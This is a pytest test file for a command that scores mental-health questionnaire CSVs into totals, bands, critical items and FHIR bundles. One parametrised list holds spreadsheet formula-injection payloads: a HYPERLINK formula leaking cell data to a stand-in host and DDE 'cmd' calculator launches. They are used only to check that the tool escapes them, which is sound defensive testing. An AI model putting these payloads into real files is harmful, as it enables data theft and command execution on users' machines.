"""`alliance score`: a CSV of responses in, totals, bands, critical items and errors out."""

from __future__ import annotations

import csv
import io
import json
import os
import random
import re
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest
from django.core.management import CommandError, call_command
from fhir.resources.R4B.bundle import Bundle

import alliance.instruments.registry as registry_module
from alliance import instruments as engine
from alliance.measures import instruments as practice
from alliance.measures import scoring_csv

DATA = Path(__file__).parent / "data"
REPO = Path(__file__).resolve().parents[2]
LHC_PHQ9 = Path(__file__).resolve().parents[3] / "shared/fixtures/external/lhc-forms-phq9.json"
PHQ9 = [f"phq9-{n}" for n in range(1, 10)]
RESULTS = ["total", "band", "critical", "error"]
CELLS = ["0", "1", "2", "3", "LA6568-5", "LA6570-1", "", "4", "x"]


@pytest.fixture(autouse=True)
def fresh_instruments(db: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    """Each test starts with only the built-ins registered, as a new process would."""
    monkeypatch.setattr(registry_module, "default_registry", engine.InstrumentRegistry())
    monkeypatch.setattr(practice, "_loaded", set())


def write(tmp_path: Path, text: str, name: str = "in.csv") -> Path:
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def phq9_csv(*rows: list[Any], header: list[str] | None = None) -> str:
    lines = [",".join(header or ["id", *PHQ9])]
    lines += [",".join(str(cell) for cell in row) for row in rows]
    return "\n".join(lines) + "\n"


def score(*args: Any) -> tuple[str, str]:
    out, err = io.StringIO(), io.StringIO()
    call_command("score", *[str(a) for a in args], stdout=out, stderr=err)
    return out.getvalue(), err.getvalue()


def scored(tmp_path: Path, text: str, instrument: str = "phq-9") -> list[dict[str, str]]:
    out, _ = score(instrument, write(tmp_path, text))
    return list(csv.DictReader(io.StringIO(out)))


# -- totals, bands, critical items ---------------------------------------------------------


def test_known_rows_get_their_totals_bands_and_critical_items(tmp_path: Path) -> None:
    rows = scored(
        tmp_path,
        phq9_csv(
            ["ones", *[1] * 9],
            ["threes", *[3] * 9],
            ["zeros", *[0] * 9],
            ["item9", *[0] * 8, 1],
            ["moderate", 2, 2, 2, 2, 2, 0, 0, 0, 0],
        ),
    )
    got = [(r["id"], r["total"], r["band"], r["critical"], r["error"]) for r in rows]
    assert got == [
        ("ones", "9", "mild", "phq9-9", ""),
        ("threes", "27", "severe", "phq9-9", ""),
        ("zeros", "0", "minimal", "", ""),
        ("item9", "1", "minimal", "phq9-9", ""),
        ("moderate", "10", "moderate", "", ""),
    ]


def test_answers_by_code_score_as_their_weights(tmp_path: Path) -> None:
    codes = ["LA6568-5", "LA6569-3", "LA6570-1", "LA6571-9"]
    rows = scored(
        tmp_path,
        phq9_csv(
            ["codes", *[codes[n % 4] for n in range(9)]],
            ["weights", *[n % 4 for n in range(9)]],
        ),
    )
    assert rows[0]["total"] == rows[1]["total"] == "12"
    assert rows[0]["band"] == rows[1]["band"] == "moderate"
    assert rows[0]["critical"] == rows[1]["critical"] == ""


def test_item_n_headers_in_any_case_name_items_by_position(tmp_path: Path) -> None:
    header = ["id", "ITEM1", "Item2", *[f"item{n}" for n in range(3, 10)]]
    rows = scored(tmp_path, phq9_csv(["a", *[0] * 8, 2], header=header))
    assert (rows[0]["total"], rows[0]["critical"]) == ("2", "phq9-9")


def test_the_difficulty_question_is_read_but_not_scored(tmp_path: Path) -> None:
    header = ["id", *PHQ9, "phq9-difficulty"]
    rows = scored(
        tmp_path,
        phq9_csv(["a", *[1] * 9, "LA6573-5"], ["b", *[1] * 9, "3"], header=header),
    )
    assert (rows[0]["total"], rows[0]["error"]) == ("9", "")
    assert rows[1]["total"] == ""
    assert "phq9-difficulty" in rows[1]["error"]


def test_other_columns_pass_through_unchanged_and_in_place(tmp_path: Path) -> None:
    text = (
        "client,phq9-1,phq9-2,phq9-3,date,phq9-4,phq9-5,phq9-6,phq9-7,phq9-8,phq9-9,note\n"
        'c-1,1,1,1,2025-01-06,1,1,1,1,1,0,"Ñandú, ""quoted"", two\nlines"\n'
    )
    out, _ = score("phq-9", write(tmp_path, text))
    header, row = list(csv.reader(io.StringIO(out)))
    assert header == [
        "client", "phq9-1", "phq9-2", "phq9-3", "date", "phq9-4", "phq9-5", "phq9-6",
        "phq9-7", "phq9-8", "phq9-9", "note", *RESULTS,
    ]  # fmt: skip
    assert row[:12] == [
        "c-1", "1", "1", "1", "2025-01-06", "1", "1", "1", "1", "1", "0",
        'Ñandú, "quoted", two\nlines',
    ]  # fmt: skip
    assert row[12:] == ["8", "mild", "", ""]


# Spreadsheets run a cell that starts with = + - @ (or a tab or CR before one) as a formula.
FORMULAS = [
    '=HYPERLINK("http://evil.test/?x="&A2,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_no_output_cell_starts_a_formula(tmp_path: Path, formula: str) -> None:
    quoted = '"' + formula.replace('"', '""') + '"'
    text = (
        f"id,{quoted},{','.join(PHQ9)}\n"
        f"{quoted},{quoted},{quoted},1,1,1,1,1,1,1,1\n"
        f"ok,{quoted},1,1,1,1,1,1,1,1,0\n"
    )
    out, _ = score("phq-9", write(tmp_path, text))
    header, bad, good = list(csv.reader(io.StringIO(out)))
    assert header[:2] == ["id", "'" + formula]
    assert bad[:3] == ["'" + formula] * 3  # passed through, and a bad item cell
    assert good[:2] == ["ok", "'" + formula]
    assert good[-4:] == ["8", "mild", "", ""]
    for cell in header + bad + good:
        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_plain_numbers_stay_numbers(tmp_path: Path) -> None:
    text = phq9_csv(["-5", *[0] * 9], ["+2.5", *[0] * 9], ["-1", -1, *[0] * 8])
    out, _ = score("phq-9", write(tmp_path, text))
    rows = list(csv.reader(io.StringIO(out)))[1:]
    assert [row[0] for row in rows] == ["-5", "+2.5", "-1"]
    assert rows[2][1] == "-1"  # the bad answer as given, with its error
    assert "value -1 is not one of the allowed answers" in rows[2][-1]


def test_the_help_says_formulas_are_escaped() -> None:
    from alliance.measures.management.commands.score import Command

    text = " ".join(Command().create_parser("alliance", "score").format_help().split())
    assert "starts with = + - @, a tab or a carriage return gets a leading '" in text


def test_the_sample_file_scores_row_by_row(tmp_path: Path) -> None:
    out, err = score("phq-9", DATA / "phq9-responses.csv")
    rows = list(csv.DictReader(io.StringIO(out)))
    assert [r["client"] for r in rows] == ["c-001", "c-002", "c-003", "c-004", "c-005"]
    assert rows[0]["note"] == "first visit, intake"
    assert [r["total"] for r in rows] == ["9", "27", "12", "", ""]
    assert rows[3]["error"] == "incomplete: 2 required items unanswered (phq9-3, phq9-7)"
    assert "phq9-1" in rows[4]["error"] and "5" in rows[4]["error"]
    assert err == ""  # a small file, stderr not a terminal: no progress


def test_subscales_get_a_column_each(tmp_path: Path) -> None:
    header = ["id", *[f"pcl5-{n}" for n in range(1, 21)]]
    answers = [1] * 5 + [2] * 2 + [0] * 7 + [4] * 6
    rows = scored(tmp_path, phq9_csv(["a", *answers], header=header), "pcl-5")
    assert list(rows[0])[-8:] == [
        "total", "band", "subscale_intrusion", "subscale_avoidance",
        "subscale_cognition-mood", "subscale_arousal-reactivity", "critical", "error",
    ]  # fmt: skip
    assert rows[0]["total"] == "33"
    assert rows[0]["band"] == "probable-ptsd"
    assert [rows[0][f"subscale_{c}"] for c in ("intrusion", "avoidance")] == ["5", "4"]
    assert rows[0]["subscale_cognition-mood"] == "0"
    assert rows[0]["subscale_arousal-reactivity"] == "24"


def test_integer_items_and_free_text_columns(tmp_path: Path) -> None:
    header = ["id", "sf-bond", "sf-goals", "sf-approach", "sf-respect", "sf-overall", "sf-comment"]
    rows = scored(
        tmp_path,
        phq9_csv(["a", 10, 9, 8, 7, 6, "all good"], ["b", 11, 9, 8, 7, 6, ""], header=header),
        "session-feedback",
    )
    assert (rows[0]["total"], rows[0]["band"], rows[0]["error"]) == ("40", "good-fit", "")
    assert "sf-bond" in rows[1]["error"] and "above the maximum 10" in rows[1]["error"]


# -- bad and incomplete rows -----------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "expected"),
    [
        ("4", "value 4 is not one of the allowed answers 0, 1, 2, 3"),
        ("-1", "value -1 is not one of the allowed answers"),
        ("1.5", "value 1.5 is not one of the allowed answers"),
        ("LA0000-0", "answer code 'LA0000-0' is not one of LA6568-5"),
        ("two", "answer code 'two' is not one of"),
        ("nan", "answer code 'nan' is not one of"),
    ],
)
def test_a_bad_cell_names_its_item_and_the_other_rows_are_scored(
    tmp_path: Path, cell: str, expected: str
) -> None:
    rows = scored(
        tmp_path,
        phq9_csv(["before", *[1] * 9], ["bad", 0, 0, cell, 0, 0, 0, 0, 0, 0], ["after", *[3] * 9]),
    )
    assert [r["total"] for r in rows] == ["9", "", "27"]
    assert rows[1]["error"].startswith("item 'phq9-3' (position 3): ")
    assert expected in rows[1]["error"]
    assert rows[1]["band"] == ""
    assert rows[0]["error"] == rows[2]["error"] == ""


def test_a_bad_cell_does_not_hide_a_positive_item_9(tmp_path: Path) -> None:
    rows = scored(tmp_path, phq9_csv(["bad", "x", 0, 0, 0, 0, 0, 0, 0, 2]))
    assert rows[0]["error"] and rows[0]["total"] == ""
    assert rows[0]["critical"] == "phq9-9"


def test_blank_cells_are_unanswered_and_withhold_the_total(tmp_path: Path) -> None:
    rows = scored(
        tmp_path,
        phq9_csv(["two", 0, 0, "", 0, 0, 0, " ", 0, 0], ["one", "", 1, 1, 1, 1, 1, 1, 1, 3]),
    )
    assert rows[0]["total"] == rows[0]["band"] == ""
    assert rows[0]["error"] == "incomplete: 2 required items unanswered (phq9-3, phq9-7)"
    assert rows[1]["error"] == "incomplete: 1 required item unanswered (phq9-1)"
    assert rows[1]["critical"] == "phq9-9"  # a blank item 1 never hides item 9


def test_a_missing_item_column_is_noted_and_rows_are_incomplete(tmp_path: Path) -> None:
    out, err = score("phq-9", write(tmp_path, "id,item1,item2\na,1,1\n"))
    row = next(csv.DictReader(io.StringIO(out)))
    assert row["error"].startswith("incomplete: 7 required items unanswered (phq9-3, ")
    assert "no column for phq9-3, phq9-4" in err


def test_short_rows_are_padded_and_long_rows_are_refused(tmp_path: Path) -> None:
    text = phq9_csv(["short", *[1] * 8], ["long", *[1] * 9, "extra"], ["blank-tail", *[1] * 9, ""])
    rows = scored(tmp_path, text)
    assert rows[0]["error"] == "incomplete: 1 required item unanswered (phq9-9)"
    assert rows[1]["error"] == "row has 11 fields but the header has 10"
    assert (rows[2]["total"], rows[2]["error"]) == ("9", "")


def test_numeric_codes_that_are_also_weights_are_refused_as_ambiguous(tmp_path: Path) -> None:
    instrument = engine.import_questionnaire(
        json.loads((DATA / "numeric-codes.json").read_text(encoding="utf-8"))
    )
    rows = scored(
        tmp_path, "q1,q2\n1,b\n0,a\n3,1\n", instrument.id
    )  # "1" is the code of Never (0) and the weight of Sometimes
    assert "'1' is both the code of 'Never' and the weight of 'Sometimes'" in rows[0]["error"]
    assert (rows[1]["total"], rows[2]["total"]) == ("0", "3")  # weight 0; code 3 + weight 1


# -- the file as a whole ---------------------------------------------------------------------


def test_empty_lines_bom_and_semicolons(tmp_path: Path) -> None:
    text = "\n\ufeffid;" + ";".join(PHQ9) + "\n\n" + "a;" + ";".join(["1"] * 9) + "\n\n;;\n"
    path = tmp_path / "in.csv"
    path.write_bytes(("\ufeff" + text.replace("\ufeff", "")).encode("utf-8"))
    out, _ = score("phq-9", path)
    lines = out.splitlines()
    assert lines[0] == "id;" + ";".join(PHQ9) + ";total;band;critical;error"
    assert lines[1:] == ["a;" + ";".join(["1"] * 9) + ";9;mild;phq9-9;"]


def test_an_empty_file_is_refused(tmp_path: Path) -> None:
    with pytest.raises(CommandError, match="the file is empty"):
        score("phq-9", write(tmp_path, "\n\n"))


def test_a_header_alone_gives_a_header_alone(tmp_path: Path) -> None:
    out, _ = score("phq-9", write(tmp_path, phq9_csv()))
    assert out.splitlines() == ["id," + ",".join(PHQ9) + ",total,band,critical,error"]


def test_a_header_without_item_columns_is_refused_and_nothing_is_written(tmp_path: Path) -> None:
    target = tmp_path / "out.csv"
    with pytest.raises(CommandError, match=r"no item columns for phq-9 .*item1 … item10"):
        score("phq-9", write(tmp_path, "id,gad7-1,gad7-2\na,1,1\n"), "-o", target)
    assert list(tmp_path.iterdir()) == [tmp_path / "in.csv"]


@pytest.mark.parametrize(
    ("header", "message"),
    [
        ("id,item1,phq9-1", "columns 'item1' and 'phq9-1' both name item 'phq9-1'"),
        ("id,item11", "column 'item11' names item 11, but phq-9 has 10 items"),
        ("id,phq9-1,Total", "already has a column 'Total'"),
    ],
)
def test_headers_that_cannot_be_read_one_way_are_refused(
    tmp_path: Path, header: str, message: str
) -> None:
    with pytest.raises(CommandError, match=message):
        score("phq-9", write(tmp_path, header + "\n"))


def test_unknown_instrument(tmp_path: Path) -> None:
    with pytest.raises(CommandError) as caught:
        score("phq-99", write(tmp_path, phq9_csv()))
    assert str(caught.value) == "unknown instrument 'phq-99'; see `alliance instruments list`"


def test_a_version_can_be_named_and_an_unknown_one_is_refused(tmp_path: Path) -> None:
    path = write(tmp_path, phq9_csv(["a", *[1] * 9]))
    assert score("phq-9@1.0.0", path) == score("phq-9", path)
    with pytest.raises(CommandError, match=r"unknown version '0\.1' of instrument 'phq-9'"):
        score("phq-9@0.1", path)


def test_a_missing_input_file(tmp_path: Path) -> None:
    with pytest.raises(CommandError, match=r"no such file: .*nowhere\.csv"):
        score("phq-9", tmp_path / "nowhere.csv")


def test_a_file_that_is_not_utf8(tmp_path: Path) -> None:
    path = tmp_path / "latin1.csv"
    path.write_bytes(
        ("id," + ",".join(PHQ9) + "\nNú," + ",".join("1" * 9) + "\n").encode("latin-1")
    )
    with pytest.raises(CommandError, match="not UTF-8 text"):
        score("phq-9", path, "-o", tmp_path / "out.csv")
    assert not (tmp_path / "out.csv").exists()


def test_output_to_a_file(tmp_path: Path) -> None:
    target = tmp_path / "scored.csv"
    out, _ = score("phq-9", write(tmp_path, phq9_csv(["a", *[1] * 9])), "-o", target)
    assert out == ""
    rows = list(csv.DictReader(target.open(encoding="utf-8", newline="")))
    assert rows[0]["total"] == "9"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["in.csv", "scored.csv"]


def test_input_from_stdin(monkeypatch: pytest.MonkeyPatch) -> None:
    data = ("\ufeff" + phq9_csv(["a", *[2] * 9])).encode("utf-8")
    monkeypatch.setattr(sys, "stdin", io.TextIOWrapper(io.BytesIO(data), encoding="utf-8"))
    out, _ = score("phq-9", "-")
    assert next(csv.DictReader(io.StringIO(out)))["total"] == "18"


def test_progress_on_large_files_goes_to_stderr(tmp_path: Path) -> None:
    rows = [[f"r{n}", *[n % 4] * 9] for n in range(20_000)]
    rows[5] = ["bad", *[9] * 9]
    out, err = score("phq-9", write(tmp_path, phq9_csv(*rows)))
    assert len(out.splitlines()) == 20_001
    assert err.splitlines() == [
        "… 10,000 rows (1 with errors)",
        "… 20,000 rows (1 with errors)",
        "scored 20,000 rows, 1 with errors",
    ]


# -- FHIR ---------------------------------------------------------------------------------


def test_fhir_bundle_has_one_response_per_valid_row(tmp_path: Path) -> None:
    text = phq9_csv(
        ["a", *[1] * 9], ["b", 0, 0, "", 0, 0, 0, 0, 0, 0], ["c", *[3] * 9], ["d", 7, *[0] * 8]
    )
    out, err = score("phq-9", write(tmp_path, text), "--format", "fhir")
    bundle = json.loads(out)
    Bundle.model_validate(bundle)
    assert bundle["type"] == "collection"
    kinds = [e["resource"]["resourceType"] for e in bundle["entry"]]
    assert kinds == ["QuestionnaireResponse", "Observation"] * 2
    responses = [e for e in bundle["entry"] if e["resource"]["resourceType"] != "Observation"]
    observations = [e["resource"] for e in bundle["entry"] if e not in responses]
    assert all(e["fullUrl"].startswith("urn:uuid:") for e in bundle["entry"])
    assert [o["derivedFrom"][0]["reference"] for o in observations] == [
        e["fullUrl"] for e in responses
    ]
    assert [o["valueQuantity"]["value"] for o in observations] == [9, 27]
    assert [o["interpretation"][0]["coding"][0]["code"] for o in observations] == [
        "mild",
        "severe",
    ]
    assert err.splitlines() == [
        "line 3: incomplete: 1 required item unanswered (phq9-3)",
        "line 5: item 'phq9-1' (position 1): value 7 is not one of the allowed answers 0, 1, 2, 3",
    ]


def test_fhir_bundle_carries_subscales(tmp_path: Path) -> None:
    header = ["id", *[f"pcl5-{n}" for n in range(1, 21)]]
    out, _ = score(
        "pcl-5", write(tmp_path, phq9_csv(["a", *[1] * 20], header=header)), "--format", "fhir"
    )
    bundle = json.loads(out)
    Bundle.model_validate(bundle)
    assert len(bundle["entry"]) == 1 + 1 + 4


def test_fhir_bundle_without_a_scored_row_has_no_entries(tmp_path: Path) -> None:
    out, err = score("phq-9", write(tmp_path, phq9_csv(["a", 1])), "--format", "fhir")
    bundle = json.loads(out)
    Bundle.model_validate(bundle)
    assert "entry" not in bundle
    assert err.startswith("line 2: incomplete: 8 required items")


@pytest.mark.parametrize("instrument_id", ["phq-9", "session-feedback", "lhc"])
def test_fhir_resources_are_the_engines_own(tmp_path: Path, instrument_id: str) -> None:
    if instrument_id == "lhc":
        if not LHC_PHQ9.exists():
            pytest.skip(f"external fixture not found at {LHC_PHQ9}")
        instrument_id = practice.practice_instrument_import(
            json.loads(LHC_PHQ9.read_text(encoding="utf-8"))
        ).id
    inst = practice.get_instrument(instrument_id)
    rng = random.Random(1)
    rows = [[f"r{n}", *(_cell(rng, item) for item in inst.items)] for n in range(60)]
    header = ["id", *(item.link_id for item in inst.items)]
    out, _ = score(
        instrument_id, write(tmp_path, phq9_csv(*rows, header=header)), "--format", "fhir"
    )
    bundle = json.loads(out)
    Bundle.model_validate(bundle)
    resources = [entry["resource"] for entry in bundle["entry"]]
    expected = []
    for row in rows:
        outcome = _expected(inst, dict(zip(header[1:], row[1:], strict=True)))
        if not outcome["error"]:
            result = engine.score(inst, outcome["answers"])
            expected.append(engine.to_questionnaire_response(result))
            expected += engine.to_observations(result)
    for resource in resources:
        resource.pop("derivedFrom", None)
    assert resources == expected
    assert len(expected) > 20


# -- batch and one-by-one agree with score() -------------------------------------------------


def _cell(rng: random.Random, item: engine.Item) -> str:
    roll = rng.random()
    if roll < 0.04:
        return ""
    if roll < 0.08:
        return rng.choice(["9", "-1", "1.5", "x", "LA0000-0", " 2 ", "2.0"])
    if item.kind == "integer":
        return str(rng.randint(0, 10))
    if item.kind == "text":
        return rng.choice(["", "fine", "3"])
    option = rng.choice(item.options)
    if option.weight is None or rng.random() < 0.3:
        return option.code
    return str(option.weight)


def _expected(inst: engine.Instrument, cells: dict[str, str]) -> dict[str, Any]:
    """What score() says about the row, worked out independently of scoring_csv."""
    answers: dict[str, Any] = {}
    for link, text in cells.items():
        text = text.strip()
        if not text:
            answers[link] = None
        elif inst.item(link).kind != "text" and text.lstrip("-").replace(".", "", 1).isdigit():
            answers[link] = int(float(text)) if float(text).is_integer() else float(text)
        else:
            answers[link] = text
    try:
        result = engine.score(inst, answers)
    except engine.InvalidAnswers as error:
        critical = []
        for rule in inst.critical:  # an invalid answer elsewhere never hides these
            try:
                if engine.score(inst, {rule.link_id: answers[rule.link_id]}).critical:
                    critical.append(rule.link_id)
            except engine.InvalidAnswers:
                pass
        return {
            "answers": answers,
            "total": None,
            "band": None,
            "error": str(error),
            "critical": tuple(critical),
            "subscales": (None,) * len(inst.subscales),
        }
    error = ""
    if result.total is None:
        missing = result.completeness.missing
        s = "s" if len(missing) != 1 else ""
        error = f"incomplete: {len(missing)} required item{s} unanswered ({', '.join(missing)})"
    return {
        "answers": answers,
        "total": result.total,
        "band": result.band.code if result.band else None,
        "error": error,
        "critical": tuple(hit.link_id for hit in result.critical),
        "subscales": tuple(result.subscales[s.code] for s in inst.subscales),
    }


@pytest.mark.parametrize("instrument_id", ["phq-9", "pcl-5", "session-feedback", "audit-c"])
def test_batch_and_one_by_one_equal_score_row_by_row(instrument_id: str) -> None:
    inst = engine.get_instrument(instrument_id)
    rng = random.Random(instrument_id)
    header = ["id", *(item.link_id for item in inst.items)]
    rows = [(n + 2, [f"r{n}", *(_cell(rng, item) for item in inst.items)]) for n in range(400)]
    layout, _ = scoring_csv.read_responses(io.StringIO(",".join(header) + "\n"), inst)
    batched = list(scoring_csv.score_rows(layout, rows, batch=True))
    assert batched == list(scoring_csv.score_rows(layout, rows, batch=False))
    kinds = {"ok": 0, "incomplete": 0, "invalid": 0}
    for (line, cells), outcome in zip(rows, batched, strict=True):
        expected = _expected(inst, dict(zip(header[1:], cells[1:], strict=True)))
        expected.pop("answers")
        got = {key: getattr(outcome, key) for key in expected}
        assert got == expected, (line, cells)
        assert outcome.cells == tuple(cells)
        error = expected["error"]
        kind = "ok" if not error else "incomplete" if error.startswith("incomplete:") else "invalid"
        kinds[kind] += 1
    assert all(count >= 10 for count in kinds.values()), kinds


# -- imported instruments ----------------------------------------------------------------


def test_the_imported_lhc_phq9_scores_like_the_builtin(tmp_path: Path) -> None:
    if not LHC_PHQ9.exists():
        pytest.skip(f"external fixture not found at {LHC_PHQ9}")
    out, err = io.StringIO(), io.StringIO()
    call_command("instruments", "import", str(LHC_PHQ9), stdout=out, stderr=err)
    imported_id = out.getvalue().strip()
    rng = random.Random(9)
    rows = []
    for n in range(300):
        level = rng.choice("0123")
        rows.append([f"r{n}", *(level if rng.random() < 0.8 else rng.choice(CELLS) for _ in PHQ9)])
    path = write(tmp_path, phq9_csv(*rows, header=["id", *[f"item{n}" for n in range(1, 10)]]))
    builtin = list(csv.DictReader(io.StringIO(score("phq-9", path)[0])))
    imported = list(csv.DictReader(io.StringIO(score(imported_id, path)[0])))
    lhc_link = {
        f"phq9-{item.position}": item.link_id for item in practice.get_instrument(imported_id).items
    }
    assert len(builtin) == len(imported) == 300
    for mine, theirs in zip(builtin, imported, strict=True):
        assert (mine["total"], mine["band"]) == (theirs["total"], theirs["band"])
        as_lhc = re.sub(
            r"phq9-\d", lambda m: lhc_link[m.group(0)], mine["critical"] + mine["error"]
        )
        assert as_lhc == theirs["critical"] + theirs["error"]
    assert {r["band"] for r in builtin} == {
        "",
        "minimal",
        "mild",
        "moderate",
        "moderately-severe",
        "severe",
    }
    assert sum(1 for r in builtin if r["critical"]) > 50


# -- the real command line ---------------------------------------------------------------


def test_the_alliance_command_scores_a_file_end_to_end(tmp_path: Path) -> None:
    env = {k: v for k, v in os.environ.items() if k not in ("DJANGO_SETTINGS_MODULE",)}
    env.update(ALLIANCE_TESTING="true", ALLIANCE_VAR_DIR=str(tmp_path / "var"))
    env.pop("DATABASE_URL", None)
    alliance = str(REPO / ".venv" / "bin" / "alliance")
    subprocess.run([alliance, "migrate", "-v", "0"], env=env, check=True, timeout=120)
    path = write(
        tmp_path, phq9_csv(["a", *[1] * 9], ["b", *[3] * 9], ["c", 0, 0, 0, 9, 0, 0, 0, 0, 0])
    )
    done = subprocess.run(
        [alliance, "score", "phq-9", str(path)],
        env=env, capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert done.stderr == ""
    rows = list(csv.DictReader(io.StringIO(done.stdout)))
    assert [(r["total"], r["band"], r["critical"]) for r in rows] == [
        ("9", "mild", "phq9-9"),
        ("27", "severe", "phq9-9"),
        ("", "", ""),
    ]
    assert "item 'phq9-4' (position 4)" in rows[2]["error"]
    missing = subprocess.run(
        [alliance, "score", "nope", str(path)],
        env=env, capture_output=True, text=True, timeout=120, check=False,
    )  # fmt: skip
    assert missing.returncode == 1
    assert "unknown instrument 'nope'; see `alliance instruments list`" in missing.stderr
    assert missing.stdout == ""
